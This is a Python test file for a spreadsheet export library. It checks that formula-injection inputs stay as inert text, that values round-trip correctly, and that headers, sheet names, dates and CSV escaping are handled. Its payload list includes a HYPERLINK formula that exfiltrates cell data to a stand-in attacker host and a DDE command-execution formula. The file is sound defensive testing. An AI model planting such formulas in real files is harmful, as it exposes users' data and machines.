"""Writing workbooks: formula payloads stay text, values round-trip, header bold and frozen."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from peixun.lib import xlsx
from peixun.lib.tabular import cell_text, read_table
from peixun.lib.xlsx import (
    ERROR_COLUMN_LABEL,
    ERROR_MESSAGE_LABEL,
    ERROR_ROW_LABEL,
    RowError,
    Sheet,
    csv_safe,
    error_workbook,
    write_workbook,
)

PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n第二行",
    "http://example.com",
    "mailto:a@example.com",
    "320705199001011234",
    "11010519491231002X",
    "13800138000",
    "0012345",
    "1e5",
    "3.20705E+17",
    "TRUE",
    " 前后空格 ",
    "张三",
]


def load(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def excel_text(value: str) -> str:
    """openpyxl leaves XlsxWriter's _x000D_ escape of a carriage return as it is."""
    return value.replace("\r", "_x000D_")


@pytest.fixture(params=[False, True], ids=["in-memory", "streaming"])
def streaming(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    if request.param:
        monkeypatch.setattr(xlsx, "STREAMING_ROWS", 5)
    return request.param


def test_payloads_stay_text(streaming: bool) -> None:
    content = write_workbook([Sheet("数据", ["值"], [[payload] for payload in PAYLOADS])])
    sheet = load(content).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert cell.data_type != "f", payload
        assert cell.data_type == "s", payload
        assert cell.value == excel_text(payload)
    assert not sheet._hyperlinks  # URLs must not become hyperlinks


def test_payloads_round_trip_through_read_table(streaming: bool) -> None:
    content = write_workbook([Sheet("数据", ["值"], [[payload] for payload in PAYLOADS])])
    table = read_table(content, "export.xlsx")
    assert table.header == ("值",)
    values = [cells[0] for _, cells in table.rows]
    # Whitespace-only rows would be skipped; none of the payloads is blank.
    assert values == PAYLOADS


def test_header_bold_and_frozen(streaming: bool) -> None:
    rows = [["张三", 1]] * 10
    content = write_workbook([Sheet("名单", ["姓名", "编号"], rows, column_widths=[12, 30])])
    sheet = load(content)["名单"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["A2"].font.b
    assert [cell.value for cell in sheet[1]] == ["姓名", "编号"]
    assert sheet.column_dimensions["B"].width == pytest.approx(30, abs=1)
    assert sheet.auto_filter.ref == "A1:B1"


def test_value_types(streaming: bool) -> None:
    row = [
        "张三",
        42,
        12.5,
        Decimal("3.5"),
        True,
        None,
        date(2008, 9, 1),
        datetime(2026, 9, 1, 14, 5),  # noqa: DTZ001 - naive local time, as exports format it
        320705199001011234,  # an integer too long for an Excel number
        float("nan"),
    ]
    header = [f"c{i}" for i in range(len(row))]
    content = write_workbook([Sheet("s", header, [row] * 6)])
    cells = next(load(content).active.iter_rows(min_row=2, max_row=2))
    got = [(cell.value, cell.data_type) for cell in cells]
    assert got[0] == ("张三", "s")
    assert got[1] == (42, "n")
    assert got[2] == (12.5, "n")
    assert got[3] == (3.5, "n")
    assert got[4] == (True, "b")
    assert got[5][0] is None
    assert got[6] == ("2008-09-01", "s")
    assert got[7] == (datetime(2026, 9, 1, 14, 5), "d")  # noqa: DTZ001 - a naive local time
    assert got[8] == ("320705199001011234", "s")
    assert len(cells) < 10 or cells[9].value is None
    assert all(cell.data_type != "f" for cell in cells)


def test_times_are_excel_date_times_in_beijing_time_never_utc(streaming: bool) -> None:
    # 17:30 UTC on 1 March is 01:30 on 2 March in Beijing: the local date differs.
    near_midnight = datetime(2026, 3, 1, 17, 30, tzinfo=UTC)
    content = write_workbook([Sheet("s", ["时间（北京时间）"], [[near_midnight]] * 6)])
    cell = load(content).active["A2"]
    assert cell.value == datetime(2026, 3, 2, 1, 30)  # noqa: DTZ001 - openpyxl reads naive values
    assert cell.is_date
    assert cell.number_format == xlsx.DATETIME_FORMAT


def test_dates_reimport_cleanly() -> None:
    from peixun.lib.dates import parse_date

    content = write_workbook([Sheet("s", ["入职日期"], [[date(2008, 9, 1)]])])
    (_, cells), *_ = read_table(content, "x.xlsx").rows
    assert parse_date(cells[0]) == date(2008, 9, 1)


def test_lazy_strings_and_other_objects_become_text() -> None:
    class Lazy:
        def __str__(self) -> str:
            return "=审计日志"

    content = write_workbook([Sheet(Lazy(), [Lazy()], [[Lazy()]])])  # type: ignore[arg-type]
    sheet = load(content).active
    assert sheet.title == "=审计日志"
    assert sheet["A1"].value == "=审计日志"
    assert sheet["A2"].value == "=审计日志"
    assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["a/b", "x[1]", "q?*:"], ["a_b", "x_1_", "q___"]),
        (["一" * 40], ["一" * 31]),
        (["名单", "名单", "名单"], ["名单", "名单 (2)", "名单 (3)"]),
        (["", "'引号'"], ["Sheet1", "引号"]),
        (["Data", "data"], ["Data", "data (2)"]),
    ],
)
def test_sheet_names_are_made_legal(names: list[str], expected: list[str]) -> None:
    content = write_workbook([Sheet(name, ["h"], []) for name in names])
    assert load(content).sheetnames == expected


def test_several_sheets_and_a_generator() -> None:
    rows = ([str(i), i] for i in range(3))
    content = write_workbook([Sheet("一", ["a", "b"], rows), Sheet("二", ["c"], [])])
    workbook = load(content)
    assert workbook.sheetnames == ["一", "二"]
    assert [[c.value for c in r] for r in workbook["一"].iter_rows(min_row=2)] == [
        ["0", 0],
        ["1", 1],
        ["2", 2],
    ]


def test_large_sheet_uses_streaming_mode() -> None:
    rows = [[f"{i:06d}", "=1+1"] for i in range(xlsx.STREAMING_ROWS + 1)]
    content = write_workbook([Sheet("大表", ["编号", "公式"], rows)])
    table = read_table(content, "big.xlsx")
    assert len(table.rows) == len(rows)
    assert table.rows[0] == (2, ("000000", "=1+1"))
    assert table.rows[-1][1][0] == f"{xlsx.STREAMING_ROWS:06d}"


def test_error_workbook() -> None:
    header = ["姓名", "证件号码", "手机"]
    errors = [
        RowError(2, ["张三", "3.20705E+17", "138"], "证件号码", "证件号码被 Excel 当成了数字"),
        RowError(2, ["张三", "3.20705E+17", "138"], "手机", "手机号码应为 11 位"),
        RowError(7, ['=HYPERLINK("x")', "110105194912310021"], "证件号码", "身份证号码校验位错误"),
    ]
    content = error_workbook(header, errors)
    workbook = load(content)
    sheet = workbook.active
    assert sheet.title == xlsx.ERROR_SHEET_NAME
    assert sheet.freeze_panes == "A2"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == [*header, ERROR_ROW_LABEL, ERROR_COLUMN_LABEL, ERROR_MESSAGE_LABEL]
    assert rows[1] == [
        "张三",
        "3.20705E+17",
        "138",
        2,
        "证件号码、手机",
        "证件号码被 Excel 当成了数字；手机号码应为 11 位",
    ]
    assert rows[2] == ['=HYPERLINK("x")', "110105194912310021", None, 7, "证件号码", "身份证号码校验位错误"]
    assert len(rows) == 3
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)
    # The report imports back: the original columns keep their titles and text.
    table = read_table(content, "errors.xlsx")
    assert table.header[:3] == tuple(header)
    assert [cell_text(c) for c in table.rows[1][1][:2]] == ['=HYPERLINK("x")', "110105194912310021"]


def test_error_workbook_with_no_errors() -> None:
    rows = [[c.value for c in r] for r in load(error_workbook(["姓名"], [])).active.iter_rows()]
    assert rows == [["姓名", ERROR_ROW_LABEL, ERROR_COLUMN_LABEL, ERROR_MESSAGE_LABEL]]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("张三", "张三"),
        ("13800138000", "13800138000"),
        ("a=b", "a=b"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_csv_safe(value: str, expected: str) -> None:
    assert csv_safe(value) == expected
